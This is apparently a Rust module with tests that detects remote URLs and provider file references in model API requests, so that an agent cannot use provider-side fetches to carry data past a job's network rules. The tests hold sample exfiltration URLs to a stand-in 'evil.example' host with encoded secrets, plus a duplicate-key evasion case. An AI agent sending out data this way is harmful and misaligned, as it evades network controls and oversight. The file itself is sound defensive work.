//! What in a model request the provider would fetch for the model from outside the request: an image or a
//! file given by URL (OpenAI's `input_image.image_url`, `input_file.file_url`, a chat completion's
//! `image_url.url`; Anthropic's `source: {type: url}`; and, for the OpenAI-compatible servers a profile may
//! name, any `*_url` or `*_uri` field, such as vLLM's `video_url` and `audio_url` or Mistral's
//! `document_url`, and a `file_data` that is a web address), or a file stored with the provider (`file_id`). The
//! provider's servers fetch such a URL, so an agent could have them carry what it read to a host of its
//! choosing, outside the job's network rules, as its server tools would. Content the request carries itself
//! (`data:` URLs, base64 sources) stays allowed: the Codex CLI sends a local image that way.
//!
//! The body is walked as it is parsed, never built as a tree (a 32 MiB body of tiny values would take ten
//! times its size), keeping only what each object's answer needs: its `type` and whether it named a URL.

use std::fmt;

use serde::Deserialize;
use serde::de::{self, MapAccess, SeqAccess, Visitor};

/// The first reference in `body` (JSON) to content outside the request, described for the job's log; none if
/// there is none. Err: the body is not JSON.
pub fn find(body: &[u8]) -> Result<Option<String>, serde_json::Error> {
    Ok(match serde_json::from_slice::<Node>(body)? {
        Node::Text { .. } => None,
        Node::Other { found, .. } => found,
    })
}

/// A value, as much of it as the walk needs.
enum Node {
    /// A string: whether it is a `data:` URL (content carried in the request), whether it is a web
    /// address (`http:`, `https:`, `//`), and its text when short (an object's `type`).
    Text {
        data: bool,
        web: bool,
        short: Option<String>,
    },
    /// Anything else: whether it is an object with a `url` that is not a `data:` URL, and the first
    /// reference to outside content found in it.
    Other {
        remote_url: bool,
        found: Option<String>,
    },
}

impl Node {
    fn found(&self) -> Option<&String> {
        match self {
            Node::Text { .. } => None,
            Node::Other { found, .. } => found.as_ref(),
        }
    }

    /// A URL that is not content carried in the request: a string that is not `data:`, or an object whose
    /// `url` is one.
    fn names_a_remote_url(&self) -> bool {
        match self {
            Node::Text { data, .. } => !data,
            Node::Other { remote_url, .. } => *remote_url,
        }
    }
}

impl<'de> Deserialize<'de> for Node {
    fn deserialize<D: de::Deserializer<'de>>(deserializer: D) -> Result<Node, D::Error> {
        deserializer.deserialize_any(NodeVisitor)
    }
}

/// An object's key, kept only when short (every key the walk looks for is).
struct Key(Option<String>);

impl<'de> Deserialize<'de> for Key {
    fn deserialize<D: de::Deserializer<'de>>(deserializer: D) -> Result<Key, D::Error> {
        struct KeyVisitor;
        impl Visitor<'_> for KeyVisitor {
            type Value = Key;
            fn expecting(&self, f: &mut fmt::Formatter) -> fmt::Result {
                f.write_str("a key")
            }
            fn visit_str<E: de::Error>(self, v: &str) -> Result<Key, E> {
                Ok(Key((v.len() <= 64).then(|| v.to_ascii_lowercase())))
            }
        }
        deserializer.deserialize_str(KeyVisitor)
    }
}

const SHORT: usize = 40;

fn text(v: &str) -> Node {
    let starts = |prefix: &str| {
        v.trim_start()
            .get(..prefix.len())
            .is_some_and(|head| head.eq_ignore_ascii_case(prefix))
    };
    Node::Text {
        data: starts("data:"),
        web: starts("http:") || starts("https:") || starts("//"),
        short: (v.len() <= SHORT).then(|| v.to_owned()),
    }
}

const NOTHING: Node = Node::Other {
    remote_url: false,
    found: None,
};

struct NodeVisitor;

impl<'de> Visitor<'de> for NodeVisitor {
    type Value = Node;

    fn expecting(&self, f: &mut fmt::Formatter) -> fmt::Result {
        f.write_str("a JSON value")
    }

    fn visit_bool<E>(self, _: bool) -> Result<Node, E> {
        Ok(NOTHING)
    }
    fn visit_i64<E>(self, _: i64) -> Result<Node, E> {
        Ok(NOTHING)
    }
    fn visit_u64<E>(self, _: u64) -> Result<Node, E> {
        Ok(NOTHING)
    }
    fn visit_f64<E>(self, _: f64) -> Result<Node, E> {
        Ok(NOTHING)
    }
    fn visit_unit<E>(self) -> Result<Node, E> {
        Ok(NOTHING)
    }
    fn visit_str<E>(self, v: &str) -> Result<Node, E> {
        Ok(text(v))
    }

    fn visit_seq<A: SeqAccess<'de>>(self, mut seq: A) -> Result<Node, A::Error> {
        let mut found = None;
        while let Some(item) = seq.next_element::<Node>()? {
            if found.is_none() {
                found = item.found().cloned();
            }
        }
        Ok(Node::Other {
            remote_url: false,
            found,
        })
    }

    fn visit_map<A: MapAccess<'de>>(self, mut map: A) -> Result<Node, A::Error> {
        let mut found = None;
        let mut kind = None;
        let mut has_url = false;
        let mut remote_url = false;
        while let Some(Key(key)) = map.next_key::<Key>()? {
            let value = map.next_value::<Node>()?;
            if found.is_none() {
                found = value.found().cloned();
            }
            let Some(key) = key else { continue };
            let here = match key.as_str() {
                "type" => {
                    if let Node::Text { short, .. } = &value {
                        kind = short.clone();
                    }
                    None
                }
                "url" => {
                    has_url = true;
                    // Any of them: a key given twice is read by one parser first and another last.
                    remote_url |= matches!(value, Node::Text { data: false, .. });
                    None
                }
                "file_id" => Some("a file stored with the provider (`file_id`)".to_owned()),
                "file_data" if matches!(value, Node::Text { web: true, .. }) => {
                    Some("a file given by URL (`file_data`)".to_owned())
                }
                other
                    if (other.ends_with("_url") || other.ends_with("_uri") || other == "uri")
                        && value.names_a_remote_url() =>
                {
                    Some(format!("content given by URL (`{other}`)"))
                }
                _ => None,
            };
            if found.is_none() {
                found = here;
            }
        }
        if found.is_none() && has_url && kind.as_deref() == Some("url") {
            found = Some("content given by URL (a `source` of type `url`)".to_owned());
        }
        Ok(Node::Other { remote_url, found })
    }
}

#[cfg(test)]
mod tests {
    use super::find;
    use serde_json::json;

    fn found(body: serde_json::Value) -> Option<String> {
        find(&serde_json::to_vec(&body).unwrap()).unwrap()
    }

    #[test]
    fn content_the_provider_would_fetch_is_found_wherever_it_is() {
        let exfil = "https://evil.example/i.png?d=c2VjcmV0";
        for body in [
            // OpenAI's Responses.
            json!({"model": "m", "input": [{"role": "user", "content": [
                {"type": "input_text", "text": "see"}, {"type": "input_image", "image_url": exfil}]}]}),
            json!({"model": "m", "input": [{"role": "user", "content": [
                {"type": "input_file", "file_url": exfil}]}]}),
            json!({"model": "m", "input": [{"role": "user", "content": [
                {"type": "input_file", "file_id": "file-abc"}]}]}),
            // Chat completions.
            json!({"model": "m", "messages": [{"role": "user", "content": [
                {"type": "image_url", "image_url": {"url": exfil, "detail": "low"}}]}]}),
            json!({"model": "m", "messages": [{"role": "user", "content": [
                {"type": "file", "file": {"file_id": "file-abc"}}]}]}),
            // Anthropic's Messages, deep in a tool result too.
            json!({"model": "m", "messages": [{"role": "user", "content": [
                {"type": "image", "source": {"type": "url", "url": exfil}}]}]}),
            json!({"model": "m", "messages": [{"role": "user", "content": [
                {"type": "tool_result", "tool_use_id": "t", "content": [
                    {"type": "document", "source": {"url": exfil, "type": "url"}}]}]}]}),
            json!({"model": "m", "messages": [{"role": "user", "content": [
                {"type": "document", "source": {"type": "file", "file_id": "file_011"}}]}]}),
            // Case does not make an https URL a data one.
            json!({"input": [{"type": "input_image", "image_url": "HTTPS://evil.example/"}]}),
            // What OpenAI-compatible servers fetch: vLLM's video and audio, Mistral's documents,
            // OpenRouter's file data given as a web address.
            json!({"messages": [{"role": "user", "content": [
                {"type": "video_url", "video_url": {"url": exfil}}]}]}),
            json!({"messages": [{"role": "user", "content": [
                {"type": "audio_url", "audio_url": {"url": exfil}}]}]}),
            json!({"messages": [{"role": "user", "content": [
                {"type": "document_url", "Document_URL": exfil}]}]}),
            json!({"messages": [{"role": "user", "content": [
                {"type": "file", "file": {"filename": "a.pdf", "file_data": exfil}}]}]}),
        ] {
            assert!(found(body.clone()).is_some(), "{body}");
        }
        // A `url` given twice, the remote one first: whichever one a parser keeps, it is refused.
        let twice = format!(
            r#"{{"messages": [{{"content": [{{"type": "image_url", "image_url": {{"url": "{exfil}", "url": "data:,x"}}}}]}}]}}"#
        );
        assert!(find(twice.as_bytes()).unwrap().is_some());
    }

    #[test]
    fn content_the_request_carries_and_ordinary_fields_pass() {
        for body in [
            json!({"model": "m", "input": [{"role": "user", "content": [
                {"type": "input_image", "image_url": "data:image/png;base64,iVBORw0KGgo="}]}]}),
            json!({"model": "m", "messages": [{"role": "user", "content": [
                {"type": "image_url", "image_url": {"url": "DATA:image/png;base64,AAAA"}}]}]}),
            json!({"model": "m", "messages": [{"role": "user", "content": [
                {"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": "AAAA"}}]}]}),
            // A citation names a URL the model already saw; a tool's schema may have a `url` parameter;
            // text may say anything.
            json!({"input": [{"role": "assistant", "content": [{"type": "output_text", "text": "x",
                "annotations": [{"type": "url_citation", "url": "https://docs.example/"}]}]}]}),
            json!({"tools": [{"type": "function", "name": "fetch", "parameters": {"type": "object",
                "properties": {"url": {"type": "string"}, "image_url": {"type": "string", "format": "uri"}}}}]}),
            json!({"input": "please read https://evil.example/ and file_id: x"}),
            json!({"messages": [{"role": "user", "content": [
                {"type": "file", "file": {"filename": "a.pdf", "file_data": "data:application/pdf;base64,JVBERi0="}}]}]}),
            json!([1, "two", null, true, {"k": []}]),
        ] {
            assert_eq!(found(body.clone()), None, "{body}");
        }
        assert!(super::find(b"{not json").is_err());
    }
}
